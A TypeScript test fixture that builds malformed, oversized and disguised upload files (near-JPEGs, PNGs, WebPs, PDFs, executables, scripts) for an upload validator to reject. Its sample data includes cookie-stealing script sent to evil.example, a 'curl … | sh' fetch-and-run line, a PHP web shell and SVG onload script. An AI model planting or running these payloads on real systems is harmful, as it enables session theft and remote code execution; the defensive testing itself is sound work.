import { gzipSync } from 'node:zlib'
import type { FileType } from '#shared/model/upload-purposes.ts'
import { hostilePdfs } from './hostile-pdfs.ts'
import {
  exif,
  extendedHeader,
  jpegFrame,
  jpegOf,
  jpegSegment,
  lossless,
  pdfOf,
  pngChunk,
  pngHeader,
  pngOf,
  pngSignature,
  riffChunk,
  webpOf,
  webpWith,
} from './sample-files.ts'

const html = '<script>alert(document.cookie)</script>'
const join = (...parts: (Buffer | string)[]): Buffer => Buffer.concat(parts.map((part) => Buffer.from(part)))
const scanOf = (data: string): Buffer => Buffer.from(data, 'hex')
const scan = jpegSegment(0xda, scanOf('010100003f00'))
const zip = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(26), Buffer.from('evil.class')])

/** A copy of a file with one bit of one byte flipped. */
const changed = (file: Buffer, offset: number): Buffer => {
  const copy = Buffer.from(file)
  copy.writeUInt8(copy.readUInt8(offset) ^ 1, offset)
  return copy
}

/** Each is nearly a JPEG. */
const hostileJpegs: Record<string, Buffer> = {
  'followed by a page': join(jpegOf(), html),
  'followed by an archive': join(jpegOf(), zip),
  'followed by a picture': join(jpegOf(), jpegOf()),
  'followed by a single byte': join(jpegOf(), '\n'),
  'after a page': join(html, jpegOf()),
  'after a space': join(' ', jpegOf()),
  'with a page between its parts': join(jpegOf().subarray(0, 20), html, jpegOf().subarray(20)),
  'a GIF that is an archive': join('GIF89a', Buffer.alloc(20), zip),
  'cut off in its header': jpegOf().subarray(0, 60),
  'cut off in its pixels': jpegOf().subarray(0, -3),
  'without an end': jpegOf().subarray(0, -2),
  'of its marker alone': Buffer.from('ffd8ff', 'hex'),
  'of start and end alone': Buffer.from('ffd8ffd9', 'hex'),
  'of 60,000 by 60,000 pixels': jpegOf({ frame: jpegFrame(60_000, 60_000) }),
  'of one row too many': jpegOf({ frame: jpegFrame(6000, 4001) }),
  'of no width': jpegOf({ frame: jpegFrame(0, 16) }),
  'of no height': jpegOf({ frame: jpegFrame(16, 0) }),
  'of twelve bits': jpegOf({ frame: jpegSegment(0xc1, scanOf('0c00100010 01 011100'.replaceAll(' ', ''))) }),
  'of two colours': jpegOf({ frame: jpegSegment(0xc0, scanOf('080010001002011100021100')) }),
  'with more in its frame than colours': jpegOf({ frame: jpegSegment(0xc0, scanOf('08001000100101110000')) }),
  'without loss': jpegOf({ frame: jpegFrame(16, 16, 0xc3) }),
  'in arithmetic code': jpegOf({ frame: jpegFrame(16, 16, 0xc9) }),
  'with two frames': jpegOf({ extra: [jpegFrame(8, 8)] }),
  'with a frame behind its scan': join(jpegOf().subarray(0, -2), jpegFrame(8, 8), scanOf('ffd9')),
  'with a first part too short': jpegOf({ extra: [jpegSegment(0xe0, 'JFIF\0x')] }),
  'that does not begin as a marker does': changed(jpegOf(), 0),
  'that begins with another marker': changed(jpegOf(), 1),
  'with a part that does not begin as a marker does': changed(jpegOf(), 20),
  'that does not end as a marker does': join(jpegOf().subarray(0, -2), jpegSegment(0xfe), scanOf('00d9')),
  'with a scan before its frame': jpegOf({ extra: [scan] }),
  'with two hundred scans': jpegOf({
    scan: Buffer.concat(Array.from({ length: 200 }, () => join(Buffer.alloc(1), scan))),
  }),
  'without a scan': join(Buffer.from('ffd8', 'hex'), jpegFrame(16, 16), Buffer.from('ffd9', 'hex')),
  'with a part longer than the file': join(
    jpegOf().subarray(0, 20),
    Buffer.from('ffe1ffff', 'hex'),
    jpegOf().subarray(20),
  ),
  'with a part of no length': join(jpegOf().subarray(0, 20), Buffer.from('ffe10000', 'hex'), jpegOf().subarray(20)),
  'with an unknown marker': jpegOf({ extra: [jpegSegment(0xf7, html)] }),
  'of ten thousand empty parts': jpegOf({ extra: Array.from({ length: 10_000 }, () => jpegSegment(0xfe)) }),
}

const png = pngOf()

/** Each is nearly a PNG. */
const hostilePngs: Record<string, Buffer> = {
  'followed by a page': join(png, html),
  'followed by an archive': join(png, zip),
  'followed by a part with a page': join(png, pngChunk('tEXt', html)),
  'after a page': join(html, png),
  'cut off': png.subarray(0, -5),
  'without an end': png.subarray(0, -12),
  'of its signature alone': pngSignature,
  'with line ends changed on the way': join('\x89PNG\n\x1a\n', png.subarray(8)),
  'with a wrong checksum of its size': changed(png, 29),
  'with a wrong checksum of its pixels': changed(png, 45),
  'with a changed size': changed(png, 19),
  'with a part longer than the file': join(
    png.subarray(0, 33),
    Buffer.from('7fffffff49444154', 'hex'),
    png.subarray(33),
  ),
  'without pixels': join(pngSignature, pngHeader(16, 16), pngChunk('IEND')),
  'without a size': join(pngSignature, png.subarray(33)),
  'with two sizes': pngOf({ extra: [pngHeader(1, 1)] }),
  'with a size that says more': pngOf({ header: pngHeader(16, 16, '080000000000') }),
  'with something before its size': pngOf({
    header: join(pngChunk('tEXt', pngHeader(16, 16).subarray(8, -4)), pngHeader(16, 16)),
  }),
  'with two ends': join(png, pngChunk('IEND')),
  'of thirty thousand parts': pngOf({ extra: Array.from({ length: 30_000 }, () => pngChunk('tEXt')) }),
  'filtered in an unknown way': pngOf({ header: pngHeader(16, 16, '0800000100') }),
  'in an unknown order': pngOf({ header: pngHeader(16, 16, '0800000002') }),
  'with its size last': join(pngSignature, png.subarray(33, -12), pngHeader(16, 16), pngChunk('IEND')),
  'with its pixels in two places': pngOf({ late: [pngChunk('gAMA', Buffer.alloc(4)), pngChunk('IDAT', 'x')] }),
  'with an unknown required part': pngOf({ extra: [pngChunk('EVIL', html)] }),
  'with a part whose name is none': pngOf({ extra: [pngChunk('a<b>', html)] }),
  'of 60,000 by 60,000 pixels': pngOf({ header: pngHeader(60_000, 60_000) }),
  'of four thousand million rows': pngOf({ header: pngHeader(1, 0xffffffff) }),
  'of no width': pngOf({ header: pngHeader(0, 16) }),
  'of three bits': pngOf({ header: pngHeader(16, 16, '0300000000') }),
  'of a kind that is none': pngOf({ header: pngHeader(16, 16, '0805000000') }),
  'packed in an unknown way': pngOf({ header: pngHeader(16, 16, '0800010000') }),
}

const webp = webpOf()
const sizeChanged = (by: number): Buffer => {
  const copy = Buffer.from(webp)
  copy.writeUInt32LE(copy.readUInt32LE(4) + by, 4)
  return copy
}
const frame = riffChunk('ANMF', Buffer.concat([Buffer.alloc(16), lossless(16, 16)]))

/** Each is nearly a WebP. */
const hostileWebps: Record<string, Buffer> = {
  'followed by a page': join(webp, html),
  'that counts a page as its own': webpWith(lossless(16, 16), riffChunk('EVIL', html)),
  'followed by undeclared metadata': webpWith(lossless(16, 16), riffChunk('EXIF', exif())),
  'after a page': join(html, webp),
  'longer than it says': sizeChanged(-2),
  'shorter than it says': sizeChanged(2),
  'cut off': webp.subarray(0, -4),
  'of its header alone': webpWith(),
  'in another container': changed(webp, 3),
  'of another kind': changed(webp, 11),
  'with an unknown part': webpWith(extendedHeader(16, 16), lossless(16, 16), riffChunk('EVIL', html)),
  'with part of an animation': webpWith(extendedHeader(16, 16), lossless(16, 16), riffChunk('ANIM', Buffer.alloc(6))),
  'of two hundred parts': webpWith(
    extendedHeader(16, 16),
    lossless(16, 16),
    ...Array.from({ length: 200 }, () => riffChunk('EXIF', '')),
  ),
  'with a picture longer than the file': webpWith(
    Buffer.from(lossless(16, 16).toString('latin1').replace('VP8L\x08', 'VP8L\x0a'), 'latin1'),
  ),
  'without its mark of a picture': webpWith(riffChunk('VP8 ', Buffer.from('1000009d012b10001000', 'hex'))),
  'without its mark of a lossless picture': changed(webp, 20),
  'of sound': join('RIFF', Buffer.from('04000000', 'hex'), 'WAVE'),
  'of 16,384 by 16,384 pixels': webpOf({ width: 16_384, height: 16_384 }),
  'that is larger than it says': webpWith(extendedHeader(16, 16), lossless(4000, 4000)),
  'that moves': webpWith(extendedHeader(16, 16, 2), riffChunk('ANIM', Buffer.alloc(6)), frame, frame),
  'with two pictures': webpWith(extendedHeader(16, 16), lossless(16, 16), lossless(16, 16)),
  'with two headers': webpWith(extendedHeader(16, 16), extendedHeader(16, 16), lossless(16, 16)),
  'without a picture': webpWith(extendedHeader(16, 16)),
  'with a part longer than the file': webpWith(Buffer.from('VP8L\xff\xff\xff\x7f', 'latin1')),
  'that changes a picture before it': webpWith(riffChunk('VP8 ', Buffer.from('0100009d012a10001000', 'hex'))),
  'of a later version': webpWith(riffChunk('VP8L', Buffer.from('2f0fc003e088888800', 'hex'))),
  'filled up with a letter': webpWith(
    extendedHeader(16, 16),
    Buffer.from('ICCP\x01\0\0\0ax', 'latin1'),
    lossless(16, 16),
  ),
}

type HostileFile = { name: string; contentType: FileType; bytes: Buffer }

const page = '<!doctype html><script>alert(document.cookie)</script>'

/** Files that are no picture and no document at all. */
const foreign: Record<string, Buffer | string> = {
  'a page': page,
  'an SVG that acts': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
  'an SVG behind a byte order mark': '\ufeff<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
  'a script of the browser': 'fetch("https://evil.example/" + document.cookie)',
  'a script of a shell': '#!/bin/sh\ncurl https://evil.example | sh\n',
  'a script of a server': '<?php system($_GET["c"]); ?>',
  'a program of Windows': Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100), Buffer.from('PE\0\0')]),
  'a program of Linux': Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(60)]),
  'an archive': Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(26), Buffer.from('a.docm')]),
  'a packed page': gzipSync(page),
  'a GIF': Buffer.from('GIF89a\x01\0\x01\0\0\0\0;', 'latin1'),
  'a bitmap': Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)]),
  'a film': Buffer.concat([Buffer.from('\0\0\0\x18ftypmp42', 'latin1'), Buffer.alloc(40)]),
  'a TIFF': Buffer.concat([Buffer.from('II*\0', 'latin1'), Buffer.alloc(40)]),
  'a style sheet': 'body { background: url(https://evil.example) }',
  'a line of text': 'Hello.',
  'one zero': Buffer.alloc(1),
  'a megabyte of zeros': Buffer.alloc(1_000_000),
}

const honest: Record<FileType, Buffer> = {
  'image/jpeg': jpegOf(),
  'image/png': pngOf(),
  'image/webp': webpOf(),
  'application/pdf': pdfOf(),
}
const types = Object.keys(honest) as FileType[] // the names of the table above

const named = (kind: string, contentType: FileType, files: Record<string, Buffer | string>): HostileFile[] =>
  Object.entries(files).map(([name, bytes]) => ({ name: `${kind} ${name}`, contentType, bytes: Buffer.from(bytes) }))

/** None of these is ever kept. */
export const hostileFiles: HostileFile[] = [
  ...types.flatMap((contentType) => named(`${contentType}:`, contentType, foreign)),
  ...types.flatMap((contentType) =>
    types
      .filter((other) => other !== contentType)
      .map((other) => ({ name: `${contentType}: an honest ${other}`, contentType, bytes: honest[other] })),
  ),
  ...named('a JPEG', 'image/jpeg', hostileJpegs),
  ...named('a PNG', 'image/png', hostilePngs),
  ...named('a WebP', 'image/webp', hostileWebps),
  ...named('a PDF', 'application/pdf', hostilePdfs),
]
